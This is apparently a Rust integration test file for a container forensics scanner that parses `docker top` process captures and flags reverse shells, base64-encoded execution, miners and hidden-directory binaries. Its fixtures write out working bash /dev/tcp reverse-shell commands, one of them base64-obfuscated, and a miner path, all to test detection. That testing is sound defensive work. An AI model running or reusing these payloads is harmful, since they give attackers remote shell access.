//! Process captures end to end: bundles holding `docker top` output in several formats,
//! run through the binary; processes, trees, lineage findings, timeline and exit codes.

use serde_json::Value;

use crate::util::{run, run_json, write_files};

/// `docker top web` (default `ps -ef`, docker CLI's tabwriter alignment).
const DOCKER_TOP_EF: &str = "\
UID                 PID                 PPID                C                   STIME               TTY                 TIME                CMD
root                84010               83990               2                   14:00               ?                   00:05:10            /usr/bin/java -jar /app/app.jar
root                84281               84010               0                   14:02               ?                   00:00:00            bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}
root                84282               84281               0                   14:02               ?                   00:00:00            bash -i
";

/// `docker top web -eo pid,ppid,user,lstart,args` as ps prints it.
const PS_LSTART: &str = "\
    PID    PPID USER                      STARTED COMMAND
  84010   83990 root     Fri Nov 27 14:00:00 2026 /usr/bin/java -jar /app/app.jar
  84281   84010 root     Fri Nov 27 14:02:11 2026 sh -c 'echo \"a  b\"   > /tmp/x; bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'
";

/// The Engine API's JSON for `docker top web aux` (no PPID column).
const API_AUX: &str = r#"{"Titles":["USER","PID","%CPU","%MEM","VSZ","RSS","TTY","STAT","START","TIME","COMMAND"],
"Processes":[["root","7001","0.0","0.1","10000","2000","?","Ss","14:00","0:00","nginx: master process nginx -g daemon off;"],
["101","7050","0.0","0.1","10400","2900","?","S","14:00","0:01","nginx: worker process"],
["101","7099","99.3","1.2","300000","40000","?","Sl","14:30","61:00","/dev/shm/.k/kdevtmpfsi"]]}"#;

fn bundle(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let files: Vec<(&str, &[u8])> = files.iter().map(|(n, t)| (*n, t.as_bytes())).collect();
    write_files(dir.path(), &files);
    dir
}

fn findings(v: &Value) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = v["bundles"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            let sev = f["severity"].as_str().unwrap().to_string();
            f["rules"].as_array().unwrap().iter().map(move |r| (r.as_str().unwrap().to_string(), sev.clone()))
        })
        .collect();
    out.sort();
    out
}

#[test]
fn three_capture_formats_give_processes_trees_and_findings() {
    let dir =
        bundle(&[("top-ef.txt", DOCKER_TOP_EF), ("top-lstart.txt", PS_LSTART), ("top-aux.json", API_AUX)]);
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "high and critical findings with the default --fail-on high");
    let b = &v["bundles"][0];
    let procs = b["processes"].as_array().unwrap();
    assert_eq!(procs.len(), 3);
    let by_artifact = |name: &str| procs.iter().find(|p| p["capture"]["artifact"] == name).unwrap();

    let ef = by_artifact("top-ef.txt");
    assert_eq!(ef["capture"]["processes"].as_array().unwrap().len(), 3);
    assert_eq!(ef["tree"]["parentage"], "ppid");
    assert_eq!(ef["tree"]["roots"], serde_json::json!([84010]));
    let depths: Vec<(u64, u64)> = ef["tree"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| (n["pid"].as_u64().unwrap(), n["depth"].as_u64().unwrap()))
        .collect();
    assert_eq!(depths, [(84010, 0), (84281, 1), (84282, 2)]);

    let ls = by_artifact("top-lstart.txt");
    let p = &ls["capture"]["processes"][1];
    assert_eq!(p["cmd"], r#"sh -c 'echo "a  b"   > /tmp/x; bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'"#);
    assert_eq!(p["started"], "2026-11-27T14:02:11.000000000Z");
    assert_eq!(p["locator"]["line"], 3);

    let aux = by_artifact("top-aux.json");
    assert_eq!(aux["capture"]["format"], "api_json");
    assert_eq!(aux["tree"]["parentage"], "none");
    assert_eq!(aux["capture"]["processes"][2]["cpu_percent"], 99.3);

    let f = findings(&v);
    let has = |rule: &str, sev: &str| f.contains(&(rule.to_string(), sev.to_string()));
    assert!(has("proc.lineage.server-shell", "critical"), "{f:?}");
    assert!(has("proc.revshell", "critical"), "{f:?}");
    assert!(has("proc.base64-exec", "critical"), "{f:?}");
    assert!(has("proc.miner", "high"), "{f:?}");
    assert!(has("proc.exec.writable-dir", "high"), "{f:?}");
    assert!(has("proc.exec.hidden-dir", "high"), "{f:?}");

    // The base64 reverse shell: decoded, with its callback, proven by both rows.
    let all = b["findings"].as_array().unwrap();
    // The same reverse shell in two captures is one finding proven by both.
    let rev = all
        .iter()
        .find(|f| {
            f["rules"].as_array().unwrap().iter().any(|r| r == "proc.revshell")
                && f["summary"].as_str().unwrap().contains("bash -c {echo,")
        })
        .expect("decoded reverse shell in top-ef.txt");
    let s = rev["summary"].as_str().unwrap();
    assert!(s.starts_with("java (84010) -> bash (84281): bash -c {echo,"), "{s}");
    assert!(
        s.contains("callback 10.0.0.5:4444 (bash /dev/tcp) (decoded from base64: bash -i >& /dev/tcp/10.0.0.5/4444 0>&1)"),
        "{s}"
    );
    let lines: Vec<u64> = rev["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["artifact"] == "top-ef.txt")
        .map(|l| l["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, [2, 3]);

    // The lstart capture's reverse shell carries the child's start time; starts reach the timeline.
    let timed = all
        .iter()
        .find(|f| {
            f["rules"].as_array().unwrap().iter().any(|r| r == "proc.revshell")
                && f["evidence"][0]["artifact"] == "top-lstart.txt"
        })
        .unwrap();
    // ps lstart is to the second and can read early: a bound, not a time.
    assert_eq!(timed["time"], serde_json::Value::Null);
    assert_eq!(timed["when"]["not_before"], "2026-11-27T14:02:11.000000000Z");
    assert_eq!(timed["when"]["not_after"], "2026-11-27T14:02:13.000000000Z");
    let starts: Vec<&Value> =
        b["timeline"].as_array().unwrap().iter().filter(|e| e["kind"] == "process-start").collect();
    assert_eq!(starts.len(), 2);
    assert_eq!(starts[0]["time"], "2026-11-27T14:00:00.000000000Z");
}

#[test]
fn fail_on_high_sets_bit0_only_with_the_lineage_finding() {
    let bad = bundle(&[("top.txt", PS_LSTART)]);
    let out = run(&["scan", bad.path().to_str().unwrap(), "--fail-on", "high"]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Processes: top.txt (2 processes, tree by PPID)"), "{text}");
    assert!(text.contains("!!    84281"), "{text}");

    let benign = bundle(&[(
        "top.txt",
        "UID PID PPID C STIME TTY TIME CMD\nroot 3001 2990 0 Nov27 ? 00:00:00 nginx: master process nginx -g daemon off;\n101 3050 3001 0 Nov27 ? 00:00:12 nginx: worker process\n",
    )]);
    let (v, code) = run_json(&["scan", benign.path().to_str().unwrap(), "--fail-on", "high"]);
    assert_eq!(code, 0, "{:?}", findings(&v));
    assert!(findings(&v).is_empty());
}

#[test]
fn hostile_capture_gives_diagnostics_not_a_crash() {
    let mut garbage =
        b"UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 14:00 ? 00:00:00 \x1b[31msh\x07\n".to_vec();
    garbage.extend_from_slice(b"root x\n");
    garbage.extend(std::iter::repeat_n(b'A', 2 << 20));
    garbage.push(b'\n');
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path(), &[("top.txt", &garbage)]);
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code, 0, "warnings only");
    let d = v["bundles"][0]["diagnostics"].as_array().unwrap();
    assert!(d.iter().any(|d| d["locator"]["line"] == 3), "{d:?}");
    assert!(d.iter().any(|d| d["message"].as_str().unwrap().contains("longer than")), "{d:?}");
    let out = run(&["scan", dir.path().to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains('\x1b'), "terminal escapes must be neutralised");
}

#[test]
fn sigma_process_creation_rules_run_on_process_captures() {
    // java -> bash: SigmaHQ's "Suspicious Java Children Processes" (linux process_creation).
    let dir = bundle(&[("top.txt", DOCKER_TOP_EF)]);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let f = v["bundles"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["rules"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == "proc.sigma.proc_creation_lnx_susp_java_children")
        })
        .unwrap_or_else(|| panic!("{}", v["bundles"][0]["findings"]));
    // Folded into the fact about that process (java -> bash 84281), credit kept.
    let s = f["summary"].as_str().unwrap();
    assert!(
        s.contains("bash (84281)")
            && s.contains("Nasreddine Bencherchali")
            && s.contains("Detection Rule License 1.1"),
        "{s}"
    );
    assert!(!f["evidence"].as_array().unwrap().is_empty());
}
